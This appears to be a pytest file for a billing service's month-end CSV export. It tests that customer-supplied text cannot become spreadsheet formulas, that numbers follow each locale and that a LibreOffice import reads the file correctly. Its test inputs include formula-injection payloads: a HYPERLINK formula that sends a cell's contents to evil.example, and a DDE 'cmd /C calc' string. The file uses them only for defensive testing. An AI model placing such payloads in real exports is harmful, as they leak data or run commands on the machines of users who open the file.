"""The month-end CSV as spreadsheet programs read it.

No text becomes a formula, the file is UTF-8 with a BOM on stdout and in a file, numbers are
numbers in each variant's locale (`--semicolon`: German decimal comma; default: decimal point),
and a SUM over a column counts every emergency once (the totals are an export of their own).
Read back with the csv module and, where installed, with LibreOffice itself in German settings.
"""

from __future__ import annotations

import codecs
import csv
import io
import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from flask import Flask
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy.orm import Session
from test_appointments import NOW, World, at, build

from hotline import billing
from hotline.models import BillingLine, BillingRun, Customer
from hotline.spreadsheet import TRIGGERS

BERLIN = ZoneInfo("Europe/Berlin")
NEW_YEAR_MORNING = datetime(2027, 1, 1, 5, 0, tzinfo=UTC)
NASTY = [
    '=HYPERLINK("https://evil.example/?"&A1;"Rechnung")',
    "+49 30 1234567",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'Zeile 1\nZeile 2; mit, Trennern und "Anführungszeichen"',
    "Bäckerei Brot ÄÖÜß €",
]


def neutral(text: str) -> str:
    """What a text cell must read back as: itself, or with the neutralising quote."""
    return f"'{text}" if text[:1] in TRIGGERS else text


def records(data: bytes, semicolon: bool) -> list[dict[str, str]]:
    """The CSV as a strict client reads it: a BOM, valid UTF-8, the variant's delimiter."""
    assert data.startswith(codecs.BOM_UTF8)
    text = data[len(codecs.BOM_UTF8) :].decode("utf-8")
    reader = csv.DictReader(io.StringIO(text, newline=""), delimiter=";" if semicolon else ",")
    return list(reader)


# --- through the database and the command, on both backends --------------------------------


@pytest.fixture
def world(session: Session, clock: Any) -> World:
    clock.at = NOW
    return build(session)


def test_the_command_writes_a_safe_file_a_column_sum_can_trust(
    app: Flask, session: Session, world: World, tmp_path: Path
) -> None:
    world.caller.name = NASTY[0]
    session.commit()
    billing.resolve(session, world.ticket, at("2026-12-01 09:50"), work_minutes=20)
    billing.waive(session, world.ticket, world.lena, NASTY[3], NOW)
    session.commit()
    billing.run_month_end(session, NEW_YEAR_MORNING)
    runner = app.test_cli_runner()

    shown = runner.invoke(args=["billing-export", "--month", "2026-12", "--semicolon"])
    assert shown.exit_code == 0, shown.output
    [row] = records(shown.stdout_bytes, semicolon=True)  # one emergency: one row, no total
    assert row["customer_name"] == "'" + NASTY[0]
    assert row["waived"] == "'" + NASTY[3]
    assert (row["ticket"], row["amount"], row["billed_hours"]) == (
        str(world.ticket.id),
        "60,00",
        "0,50",
    )

    file = tmp_path / "2026-12.csv"
    written = runner.invoke(args=["billing-export", "--month", "2026-12", "-o", str(file)])
    assert written.exit_code == 0, written.output
    [row] = records(file.read_bytes(), semicolon=False)
    assert (row["amount"], row["customer_name"]) == ("60.00", "'" + NASTY[0])

    totals = runner.invoke(args=["billing-export", "--month", "2026-12", "--totals"])
    assert totals.exit_code == 0, totals.output
    [total] = records(totals.stdout_bytes, semicolon=False)
    assert (total["customer"], total["tickets"], total["amount"]) == ("10099", "1", "60.00")


# --- the file itself, without a database ---------------------------------------------------


def line(n: int, customer: Customer, name: str = "JourFixe", reason: str | None = None) -> Any:
    """A stored line as the run keeps it, for customer `customer`; not in any session."""
    return BillingLine(
        customer=customer, ticket_id=n, accepted_at=datetime(2026, 12, 1, 8, tzinfo=UTC)
        + timedelta(hours=n), phone_seconds=61 * n, work_minutes=20, raw_minutes=30,
        billed_minutes=30, quota_minutes=30 if n < 3 else 0, extra_minutes=0 if n < 3 else 30,
        monthly_hours=Decimal("1.00"), hourly_rate=Decimal("120.00"),
        amount=Decimal("60.00") + n, extra_amount=Decimal("0.00"), surcharge=Decimal("0.50") * n,
        displaced=[{"id": 40 + n, "customer": "10077", "title": name,
                    "starts_at": "2026-12-01T10:00:00+01:00", "outcome": "rescheduled"}],
        surcharge_waived_reason=reason,
    )  # fmt: skip


def run_of(lines: list[Any]) -> BillingRun:
    return BillingRun(month=date(2026, 12, 1), closed_at=NEW_YEAR_MORNING, lines=lines)


def sample() -> BillingRun:
    a = Customer(number="10099", name=NASTY[0])
    b = Customer(number="10077", name="Müller GmbH")
    return run_of([line(1, a, NASTY[1], NASTY[3]), line(2, b), line(3, a, NASTY[6])])


@pytest.mark.parametrize("semicolon", [True, False])
def test_totals_are_their_own_export_so_no_column_sum_counts_twice(semicolon: bool) -> None:
    run = sample()
    number = (lambda v: Decimal(v.replace(",", "."))) if semicolon else Decimal
    lines = records(billing.export(run, BERLIN, semicolon), semicolon)
    assert [r["ticket"] for r in lines] == ["2", "1", "3"]  # by customer number, then time
    totals = records(billing.export(run, BERLIN, semicolon, totals=True), semicolon)
    assert [(t["customer"], t["tickets"]) for t in totals] == [("10077", "1"), ("10099", "2")]
    for column in ("amount", "extra_amount", "surcharge", "billed_hours", "quota_hours"):
        assert sum(number(r[column]) for r in lines) == sum(number(t[column]) for t in totals)
    assert sum(number(r["amount"]) for r in lines) == Decimal("186.00")
    assert totals[1]["extra_hours"] == ("0,50" if semicolon else "0.50")


def test_each_variant_writes_numbers_its_locale_reads() -> None:
    german = records(billing.export(sample(), BERLIN, semicolon=True), semicolon=True)
    plain = records(billing.export(sample(), BERLIN), semicolon=False)
    assert (german[0]["amount"], german[0]["surcharge"], german[0]["hourly_rate"]) == (
        "62,00",
        "1,00",
        "120,00",
    )
    assert (plain[0]["amount"], plain[0]["surcharge"], plain[0]["phone_minutes"]) == (
        "62.00",
        "1.00",
        "3",  # 122 s are three started minutes
    )
    assert german[0]["accepted"] == plain[0]["accepted"] == "2026-12-01 11:00"


unicode_text = st.text(st.characters(exclude_categories=["Cs"]), max_size=40)


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.tuples(unicode_text, unicode_text, st.none() | unicode_text), max_size=6),
    st.booleans(),
    st.booleans(),
)
def test_any_unicode_text_comes_back_intact_one_row_per_line(
    items: list[tuple[str, str, str | None]], semicolon: bool, totals: bool
) -> None:
    lines = [
        line(i, Customer(number=f"1{i:04d}", name=name), title, reason)
        for i, (name, title, reason) in enumerate(items, start=1)
    ]
    read = records(billing.export(run_of(lines), BERLIN, semicolon, totals), semicolon)
    assert len(read) == len(items)  # one row per line item (or per customer: one each here)
    for row, (name, title, reason) in zip(read, items, strict=True):
        assert row["customer_name"] == neutral(name)
        if not totals:
            assert row["waived"] == neutral(reason or "")
            assert (
                row["displaced"].startswith("#") and f" {title} (rescheduled)" in row["displaced"]
            )


# --- read back by LibreOffice in German settings -------------------------------------------

ODF = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
}
GERMAN, US_ENGLISH = 1031, 1033  # LibreOffice language ids for the CSV import's number rules


def libreoffice(data: bytes, tmp_path: Path, semicolon: bool, language: int) -> list[list[Any]]:
    """The file as LibreOffice Calc imports it, as rows of (type, value, formula) per cell.

    The CSV filter options: separator, text delimiter '"', UTF-8 (76), from line 1, standard
    column types, the locale whose number format applies, then "detect special numbers"."""
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        pytest.fail("LibreOffice is not installed: bin/setup-tools installs it (Debian's "
                    "libreoffice-calc-nogui)")  # fmt: skip
    source = tmp_path / "export.csv"
    source.write_bytes(data)
    options = f"CSV:{ord(';' if semicolon else ',')},34,76,1,,{language},false,true"
    profile = (tmp_path / "lo-profile").as_uri()
    subprocess.run(
        [soffice, f"-env:UserInstallation={profile}", "--headless", f"--infilter={options}",
         "--convert-to", "fods", "--outdir", str(tmp_path), str(source)],
        check=True, capture_output=True, timeout=180, env={**os.environ, "HOME": str(tmp_path)},
    )  # fmt: skip
    table = ET.parse(tmp_path / "export.fods").getroot().find(".//table:table", ODF)
    assert table is not None
    cell_tags = {f"{{{ODF['table']}}}table-cell", f"{{{ODF['table']}}}covered-table-cell"}
    rows = []
    for row in table.iter(f"{{{ODF['table']}}}table-row"):
        cells = []
        for cell in row:
            if cell.tag not in cell_tags:
                continue
            kind = cell.get(f"{{{ODF['office']}}}value-type", "")
            paragraphs = ["".join(p.itertext()) for p in cell]
            value = cell.get(f"{{{ODF['office']}}}value") or "\n".join(paragraphs)
            repeat = min(int(cell.get(f"{{{ODF['table']}}}number-columns-repeated", "1")), 50)
            cells += [(kind, value, cell.get(f"{{{ODF['table']}}}formula"))] * repeat
        if any(kind for kind, _, _ in cells):
            rows.append(cells)
    return rows


@pytest.mark.parametrize(("semicolon", "language"), [(True, GERMAN), (False, US_ENGLISH)])
def test_libreoffice_reads_numbers_as_numbers_and_no_formula(
    tmp_path: Path, semicolon: bool, language: int
) -> None:
    run = sample()
    header, *rows = libreoffice(billing.export(run, BERLIN, semicolon), tmp_path,
                                semicolon, language)  # fmt: skip
    columns = [value for _, value, _ in header]
    assert columns == billing.LINE_COLUMNS
    assert len(rows) == 3  # the line break inside a name stays inside its cell
    assert all(formula is None for row in [header, *rows] for _, _, formula in row)
    column = {name: [row[i] for row in rows] for i, name in enumerate(columns)}
    for name in ("amount", "surcharge", "billed_hours", "hourly_rate", "ticket", "work_minutes"):
        assert {kind for kind, _, _ in column[name]} == {"float"}, name
    assert sum(Decimal(value) for _, value, _ in column["amount"]) == Decimal("186")
    assert [value for _, value, _ in column["surcharge"]] == ["1", "0.5", "1.5"]
    names = [value for kind, value, _ in column["customer_name"]]
    assert names == ["Müller GmbH", "'" + NASTY[0], "'" + NASTY[0]]
    assert [value for _, value, _ in column["waived"]][1] == "'" + NASTY[3]
